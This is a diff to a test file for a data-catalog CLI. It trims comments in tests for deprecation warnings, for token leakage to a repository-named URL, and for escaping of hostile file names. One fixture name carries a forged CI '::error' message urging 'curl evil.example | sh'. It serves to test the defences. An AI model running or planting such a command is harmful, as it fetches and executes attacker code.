@@ -84,7 +84,7 @@ describe('catalog-lens check (the bin, against the local catalog)', () => {
       r.stdout,
       /^examples\/sql\/revenue\.sql:3:12: information: Dataset db\.orders has no description \[missing-description\]$/m,
     );
-    // A deprecated dataset named by a builder call: the catalog's note, date and replacement (issue 17).
+    // A deprecated dataset named by a builder call: the catalog's note, date and replacement.
     assert.match(
       r.stdout,
       /^examples\/pipelines\/features\.py:66:\d+: warning: Dataset db\.users_legacy is deprecated \(decommission 2026-12-31\): Replaced by db\.users, which has every user since 2019\. Use db\.users instead\. \[deprecated-urn\]$/m,
@@ -157,7 +157,7 @@ describe('catalog-lens check (the bin, against the local catalog)', () => {
   });
 
   test('the token is not sent to a "url" the repository’s .catalog-lens.json names: exit 2, and how to pass it', async () => {
-    // security-probe Part 2, finding 4: a pull request's config pointed CI's CATALOG_LENS_TOKEN at its own server.
+    // A pull request's config must not point CI's CATALOG_LENS_TOKEN at its own server.
     const seen: Array<{ url: string; authorization: string | undefined }> = [];
     const listener = createServer((req, res) => {
       // Recorded before the answer: the CLI waits for the answer, so every request it sent is here when it exits.
@@ -215,7 +215,7 @@ describe('catalog-lens check (the bin, against the local catalog)', () => {
   });
 
   test('file names with a line break, ESC or a leading `::` are printed escaped: no forged workflow command, no terminal escape', async () => {
-    // security-probe Part 2, finding 13, with real files of those names.
+    // With real files of those names.
     const folder = mkdtempSync(join(work, 'names-'));
     const names = [
       'a\n::error file=SECURITY.md,line=1::Secret scanning found a leaked key - run curl evil.example | sh to rotate\n.py',
